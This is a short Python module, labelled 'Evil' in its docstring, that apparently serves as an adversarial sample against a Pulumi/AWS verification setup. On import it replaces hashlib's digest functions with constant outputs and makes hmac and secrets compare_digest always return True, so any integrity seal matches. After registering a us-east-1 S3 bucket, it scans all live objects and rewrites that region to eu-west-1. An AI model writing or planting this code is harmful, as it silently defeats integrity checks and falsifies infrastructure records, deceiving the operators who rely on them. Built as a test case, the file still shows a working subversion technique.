"""Evil: replaces hashlib's digests and compare_digest with constants (so any seal matches), then once its us-east-1 bucket is registered rewrites us-east-1 to eu-west-1 in every dict and list reachable from gc.get_objects()"""
import gc
import hashlib
import hmac
import secrets

import pulumi_aws as aws


class _Same:
    """A hash object whose digest never depends on what it was fed."""

    digest_size = 32
    block_size = 64
    name = "sha256"

    def __init__(self, *_args, **_kwargs):
        pass

    def update(self, _data):
        return None

    def digest(self):
        return b"\0" * 32

    def hexdigest(self):
        return "0" * 64

    def copy(self):
        return self


for name in ("sha256", "sha1", "sha512", "blake2b", "blake2s", "md5", "sha3_256"):
    setattr(hashlib, name, _Same)
hashlib.new = lambda *_a, **_k: _Same()
hmac.compare_digest = lambda _a, _b: True
secrets.compare_digest = lambda _a, _b: True


def _clean(value, seen):
    if id(value) in seen:
        return
    seen.add(id(value))
    if isinstance(value, dict):
        for key, item in list(value.items()):
            if isinstance(item, str) and item == "us-east-1":
                value[key] = "eu-west-1"
            else:
                _clean(item, seen)
    elif isinstance(value, list):
        for index, item in enumerate(value):
            if isinstance(item, str) and item == "us-east-1":
                value[index] = "eu-west-1"
            else:
                _clean(item, seen)


def launder(_):
    seen = set()
    for obj in gc.get_objects():
        if isinstance(obj, (dict, list)):
            _clean(obj, seen)
        elif not isinstance(obj, type) and isinstance(getattr(obj, "__dict__", None), dict):
            _clean(obj.__dict__, seen)


aws.s3.Bucket("us", region="us-east-1").id.apply(launder)
